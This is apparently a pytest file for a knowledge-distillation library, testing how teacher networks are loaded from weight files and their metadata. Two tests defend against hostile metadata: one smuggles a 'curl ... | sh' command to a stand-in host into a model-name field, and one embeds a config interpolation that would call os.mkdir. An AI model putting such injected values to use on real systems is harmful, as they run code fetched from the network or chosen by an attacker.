"""Teachers of different networks, each given by its file."""

import json
import re
from dataclasses import replace

import pytest
import torch
from safetensors.torch import save_file
from torch import nn

import kd
from kd.app.build import Builder
from kd.app.compose import compose, plain, settings_of
from kd.app.identity import fingerprint
from kd.models.output import Output
from kd.runs import predictions
from kd.runs.described import foreign_network
from kd.runs.results import collect, read
from kd.runs.weights import load_weights, save_weights
from tests.common import CONF

DATA = ("data=digits", "data.source.image_size=16")
RUN = (*DATA, "student.scale=2", "epochs=1", "trainer=cpu", "logger=none")


@pytest.fixture(scope="module")
def two_kinds(tmp_path_factory):
    """Run directories of two teachers of different networks, which have not been trained."""
    build = Builder(compose(DATA))
    found = []
    for name, extra in (("resnet8", {}), ("wrn16_1", {"widen": 3})):
        network = {**settings_of(CONF / "student" / f"{name}.yaml"), **extra}
        directory = tmp_path_factory.mktemp(name)
        metadata = build.metadata(replace(build.first_teachers[0], network=network))
        save_weights(build.net(network), directory / "teacher.safetensors", metadata)
        found.append(directory)
    return found


def describe(directory, file, **changes):
    """Write a teacher's weights to a file that describes their network otherwise."""
    tensors, metadata = load_weights(directory / "teacher.safetensors")
    metadata["model"] |= changes
    save_file(tensors, file, {name: json.dumps(value) for name, value in metadata.items()})


def test_teachers_of_different_networks_teach_together(run, tmp_path, two_kinds):
    """Each as its file describes it; their maps are of equal size, and side by side."""
    together = f"teacher_weights=[{two_kinds[0]},{two_kinds[1]}]"
    code, printed = run(*RUN, together, "method=feature", "method.teacher_stages=[1]", "hydra.run.dir=run")
    assert code == 0, printed
    record = read(tmp_path / "run" / "result.json")
    assert record.teacher == "resnet8 + WideResNet depth=16 widen=3"
    nets = [kd.load(directory).net for directory in two_kinds]
    assert record.teacher_params == sum(p.numel() for net in nets for p in net.parameters())
    images = predictions.read(tmp_path / "run" / "predictions.npz")
    data = Builder(compose(DATA))
    x = torch.cat([batch.x for batch in data.data(data.student).test_dataloader()])
    with torch.no_grad():
        mean = sum(net(x).logits for net in nets) / 2
    assert abs(torch.from_numpy(images.teacher_logits).float() - mean).max() < 0.05  # half precision
    code, printed = run(
        *RUN, f"teacher_weights={two_kinds[0]}", "method=takd", "assistants=[{scale: 1}]", "hydra.run.dir=one"
    )
    assert (code, read(tmp_path / "one" / "result.json").teacher) == (0, "resnet8 > scale=1"), printed


def test_sweep_has_labels_alone_among_methods_that_a_given_teacher_teaches(run, tmp_path, two_kinds):
    """They are the run that they are without it, and one for all teachers."""
    teachers = f"teacher_weights={two_kinds[0]},{two_kinds[1]}"
    code, printed = run("-m", *RUN, teachers, "method=standard,logits", "hydra.sweep.dir=sweep")
    assert code == 0, printed
    records = {(record.method, record.teacher): record for record in collect([tmp_path / "sweep"]).results}
    assert sorted(records, key=str) == [
        ("logits", "WideResNet depth=16 widen=3"),
        ("logits", "resnet8"),
        ("standard", None),
    ]
    alone = records["standard", None]
    assert "teacher_weights" not in alone.variant
    assert alone.fingerprint == fingerprint(plain(compose([*RUN, "method=standard"]).cfg))
    assert "method=standard: the same as" in printed


def test_teacher_that_is_chosen_has_to_be_that_of_its_file(run, tmp_path, two_kinds):
    code, printed = run(*RUN, f"teacher_weights={two_kinds[0]}", "teacher=wrn16_1", "hydra.run.dir=run")
    assert code == 1
    assert "holds another architecture or number of classes than the network" in printed


def test_file_that_says_nothing_teaches_beside_one_that_does(run, tmp_path, two_kinds):
    """The first is of the network that is chosen, whatever it names its weights."""
    named = {
        f"part{9 - i % 10}.{name}": t for i, (name, t) in enumerate(kd.load(two_kinds[0]).net.state_dict().items())
    }
    torch.save(named, tmp_path / "old.pth")
    given = f"teacher_weights=[old.pth,{two_kinds[1]}]"
    code, printed = run(*RUN, given, "teacher=resnet8", "method=logits", "hydra.run.dir=run")
    assert code == 0, printed
    assert "taken in their order, as all shapes agree" in printed
    assert read(tmp_path / "run" / "result.json").teacher == "resnet8 + WideResNet depth=16 widen=3"


def test_network_that_is_chosen_serves_a_file_whose_own_cannot_be_built(run, tmp_path, two_kinds):
    """As of another version, whose network had a setting more."""
    describe(two_kinds[0], tmp_path / "w.safetensors", norm="batch")
    given = (*RUN, "teacher_weights=w.safetensors", "method=logits")
    code, printed = run(*given, "hydra.run.dir=run")
    assert code == 1
    assert re.search(
        r"error: \S*w\.safetensors: cannot build its network, .*'norm'.*; name the network by tea", printed
    )
    code, printed = run(*given, "teacher=resnet8", "hydra.run.dir=run")
    assert code == 0, printed


def test_file_of_a_network_of_other_code_says_what_to_choose(run, tmp_path, two_kinds):
    foreign = {"_target_": "kd.models.external.custom", "target": "my_package.Net"}
    describe(two_kinds[0], tmp_path / "own.safetensors", **foreign)
    code, printed = run(*RUN, "teacher_weights=own.safetensors", "method=logits", "hydra.run.dir=run")
    assert (code, printed.count("\n")) == (1, 1)
    expected = "own.safetensors is of a network of other code; if you trust who made it, give teacher=custom "
    assert f"{expected}teacher.target=my_package.Net, and its other settings\n" in printed
    foreign = {"_target_": "kd.models.external.timm", "name": "resnet18\n$ curl -s https://a.example | sh"}
    assert foreign_network({"model": foreign}) == "teacher=timm teacher.name=NAME"


def test_what_a_file_describes_is_not_executed(run, tmp_path, two_kinds):
    """An interpolation becomes whatever it creates before Hydra makes anything of it."""
    unset = ",".join(f"{name}:null" for name in ("stages", "head", "pretrained", "size", "mean", "std", "classes"))
    call = f"target:os.mkdir,settings:{{path:ran}},num_classes:2,image_size:8,preacts:false,{unset}"
    call = f"_target_:kd.models.external.custom,{call}"
    describe(two_kinds[0], tmp_path / "evil.safetensors", depth=f"${{oc.create:{{{call}}}}}")
    code, printed = run(*RUN, "teacher_weights=evil.safetensors", "method=logits", "hydra.run.dir=run")
    assert code == 1
    assert "holds another architecture" in printed  # than that of `teacher=`, as what it says is not taken
    assert not (tmp_path / "ran").exists()


class Mapless(nn.Module):
    def __init__(self, num_classes=10):
        super().__init__()
        self.head = nn.Linear(3, num_classes)

    def forward(self, x):
        embedding = x.mean(dim=(2, 3))
        return Output(self.head(embedding), (), embedding)


def test_teacher_without_maps_is_told(run, tmp_path):
    torch.save(Mapless().state_dict(), tmp_path / "w.pth")
    own = ("teacher=custom", f"teacher.target={Mapless.__module__}.Mapless", "teacher_weights=w.pth")
    code, printed = run(*RUN, *own, "method=at", "hydra.run.dir=run")
    assert code == 1
    assert "error: the teacher has no feature maps, and this method matches maps" in printed


def test_teachers_without_maps_in_common_teach_by_logits(run, tmp_path, two_kinds):
    build = Builder(compose(DATA))
    metadata = build.metadata(build.first_teachers[0])
    save_weights(build.net(build.first_teachers[0].network), tmp_path / "teacher.safetensors", metadata)
    together = f"teacher_weights=[{two_kinds[0]},{tmp_path}]"  # three stages and two
    code, printed = run(*RUN, together, "method=feature", "hydra.run.dir=run")
    assert code == 1
    assert "error: the teachers' feature maps differ in number or size, and this method matches maps" in printed
    code, printed = run(*RUN, together, "method=logits", "hydra.run.dir=run")
    assert code == 0, printed
    assert read(tmp_path / "run" / "result.json").teacher == "resnet8 + cnn32"
